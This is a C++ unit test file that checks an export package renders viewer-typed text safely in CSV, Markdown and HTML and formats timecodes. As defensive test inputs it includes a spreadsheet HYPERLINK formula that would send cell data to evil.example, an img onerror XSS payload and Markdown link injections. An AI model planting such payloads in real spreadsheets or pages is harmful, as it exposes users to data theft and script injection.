// How the package keeps what people typed as text, with what a hostile
// viewer would type: formulas for Excel, line breaks and control characters,
// Markdown links and headings, HTML. Each result is read back the way its
// reader reads it, and what was typed must come back as text.
#include "studio/export/package_text.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "tests/support/spreadsheet_formulas.h"
#include "tests/unit/studio/export/readers.h"

namespace yst::exporter {
namespace {

TEST(OneLine, FoldsEveryKindOfLineBreakIntoOneSpace) {
  EXPECT_EQ(oneLine("a\nb"), "a b");
  EXPECT_EQ(oneLine("a\rb"), "a b");
  EXPECT_EQ(oneLine("a\r\nb"), "a b");
  EXPECT_EQ(oneLine("a\xE2\x80\xA8"
                    "b\xE2\x80\xA9"
                    "c"),
            "a b c");
  EXPECT_EQ(oneLine("a\xC2\x85"
                    "b\vc\fd"),
            "a b c d");
  EXPECT_EQ(oneLine("a\n\n\n\nb"), "a b");
  EXPECT_EQ(oneLine("  \n a \t\n b \n"), "a b");
  EXPECT_EQ(oneLine(std::string("a\0b\x1b"
                                "c\x7f"
                                "d",
                                7)),
            "abcd");
  EXPECT_EQ(oneLine("请看\n00:00:00.000 --> 09:59:59.000\n本节目内容不实"),
            "请看 00:00:00.000 --> 09:59:59.000 本节目内容不实");
  EXPECT_EQ(oneLine("\xFF"), "\xEF\xBF\xBD");  // invalid UTF-8: U+FFFD
}

TEST(OneLine, DropsControlCharactersAndKeepsTheTextAroundThem) {
  // A terminal's colour escape and the C1 CSI that starts one: gone, the
  // text around them kept.
  EXPECT_EQ(oneLine("\x1b[31m红字\x1b[0m"), "[31m红字[0m");
  EXPECT_EQ(oneLine("a\xC2\x9B"
                    "31mb"),
            "a31mb");
  EXPECT_EQ(oneLine("\x07响铃\x08退格"), "响铃退格");
  EXPECT_EQ(oneLine(""), "");
  EXPECT_EQ(oneLine(" \n\t\r\n "), "");
  // Full-width spaces and punctuation are text, not white space to fold.
  EXPECT_EQ(oneLine("请问\xE3\x80\x80局长"), "请问\xE3\x80\x80局长");
}

TEST(CsvCell, NeutralisesEveryFormulaStart) {
  for (const std::string& formula : test::kSpreadsheetFormulas) {
    const std::vector<std::vector<std::string>> rows = readers::parseCsv(csvCell(formula));
    ASSERT_EQ(rows.size(), 1u) << formula;
    ASSERT_EQ(rows[0].size(), 1u) << formula;
    EXPECT_EQ(rows[0][0], "'" + formula);
  }
  EXPECT_EQ(csvCell(test::kSpreadsheetFormulas[0]),
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点我\"\")\"");
}

TEST(CsvCell, KeepsOrdinaryTextAsItWas) {
  EXPECT_EQ(csvCell("请问局长，医保卡异地使用怎么办理？"),
            "\"请问局长，医保卡异地使用怎么办理？\"");
  EXPECT_EQ(csvCell("1+1=2"), "\"1+1=2\"");
  EXPECT_EQ(csvCell("说\"好\""), "\"说\"\"好\"\"\"");
  EXPECT_EQ(csvCell(""), "\"\"");
  EXPECT_EQ(csvCell("第一段\n\n第二段"), "\"第一段\n\n第二段\"");
  EXPECT_EQ(csvCell("00:01:02"), "\"00:01:02\"");
}

TEST(Timecode, WholeSecondsAtTheEdges) {
  EXPECT_EQ(timecode(0), "00:00:00");
  EXPECT_EQ(timecode(999), "00:00:00") << "seconds are cut, not rounded";
  EXPECT_EQ(timecode(1000), "00:00:01");
  EXPECT_EQ(timecode(59999), "00:00:59");
  EXPECT_EQ(timecode(60000), "00:01:00");
  EXPECT_EQ(timecode(3599999), "00:59:59") << "not rounded up to the next hour";
  EXPECT_EQ(timecode(3600000), "01:00:00");
  EXPECT_EQ(timecode(3661000), "01:01:01");
  EXPECT_EQ(timecode(86400000), "24:00:00") << "a show's clock does not wrap at a day";
  EXPECT_EQ(timecode(360000000), "100:00:00");
  EXPECT_EQ(timecode(-1), "00:00:00");
  EXPECT_EQ(timecode(-3600000), "00:00:00");
}

TEST(EscapeHtml, EveryCharacterThatEndsTextOrAnAttribute) {
  EXPECT_EQ(escapeHtml("<a href=\"x\" title='y'>&</a>"),
            "&lt;a href=&quot;x&quot; title=&#39;y&#39;&gt;&amp;&lt;/a&gt;");
  EXPECT_EQ(escapeHtml("&amp;"), "&amp;amp;") << "an entity typed is shown, not read";
  EXPECT_EQ(escapeHtml("王芳（主持人）"), "王芳（主持人）");
  EXPECT_EQ(escapeHtml(""), "");
}

TEST(MarkdownText, NothingAViewerTypesIsMarkdownOrHtml) {
  EXPECT_EQ(markdownText("请问局长，医保卡异地使用怎么办理？"),
            "请问局长，医保卡异地使用怎么办理？");
  EXPECT_EQ(markdownText("# 标题"), "\\# 标题");
  EXPECT_EQ(markdownText("[点我](http://evil.example)"), "\\[点我\\](http\\://evil.example)");
  EXPECT_EQ(markdownText("![x](https://evil.example/a.png)"),
            "!\\[x\\](https\\://evil.example/a.png)");
  EXPECT_EQ(markdownText("<img src=x onerror=alert(1)>"), "&lt;img src=x onerror=alert(1)&gt;");
  EXPECT_EQ(markdownText("<https://evil.example>"), "&lt;https\\://evil.example&gt;");
  EXPECT_EQ(markdownText("看 www.evil.example 或 WWW.evil.example"),
            "看 www\\.evil.example 或 WWW\\.evil.example");
  EXPECT_EQ(markdownText("写信 a@evil.example"), "写信 a\\@evil.example");
  EXPECT_EQ(markdownText("| a | b |"), "\\| a \\| b \\|");
  EXPECT_EQ(markdownText("**粗** _斜_ ~~删~~ `码` $x$"),
            "\\*\\*粗\\*\\* \\_斜\\_ \\~\\~删\\~\\~ \\`码\\` \\$x\\$");
  EXPECT_EQ(markdownText("\\[不是链接]"), "\\\\\\[不是链接\\]");
  EXPECT_EQ(markdownText("A&B &amp;"), "A&amp;B &amp;amp;");
  // Line starts that begin a list or a heading underline.
  EXPECT_EQ(markdownText("- 列表"), "\\- 列表");
  EXPECT_EQ(markdownText("+ 列表"), "\\+ 列表");
  EXPECT_EQ(markdownText("=== "), "\\===");
  EXPECT_EQ(markdownText("12. 列表"), "12\\. 列表");
  EXPECT_EQ(markdownText("3) 列表"), "3\\) 列表");
  EXPECT_EQ(markdownText("3.5 元"), "3.5 元");
  EXPECT_EQ(markdownText("共 3.5 元"), "共 3.5 元");
  // Newlines could start any of them: one line.
  EXPECT_EQ(markdownText("一\n\n## 注入\n- 项\r\n> 引\xE2\x80\xA8==="),
            "一 \\#\\# 注入 - 项 &gt; 引 ===");
}

TEST(MarkdownText, EmptyAndControlCharacters) {
  EXPECT_EQ(markdownText(""), "");
  EXPECT_EQ(markdownText("\n\n"), "");
  EXPECT_EQ(markdownText("\x1b[1m粗\x1b[0m"), "\\[1m粗\\[0m")
      << "the escapes go, the brackets left are no link";
}

TEST(Language, ParsesTheCommandLineNames) {
  EXPECT_EQ(parseLanguage("zh"), Language::kChinese);
  EXPECT_EQ(parseLanguage("en"), Language::kEnglish);
  EXPECT_EQ(parseLanguage("fr"), Language::kInvalid);
  EXPECT_EQ(parseLanguage(""), Language::kInvalid);
}

}  // namespace
}  // namespace yst::exporter
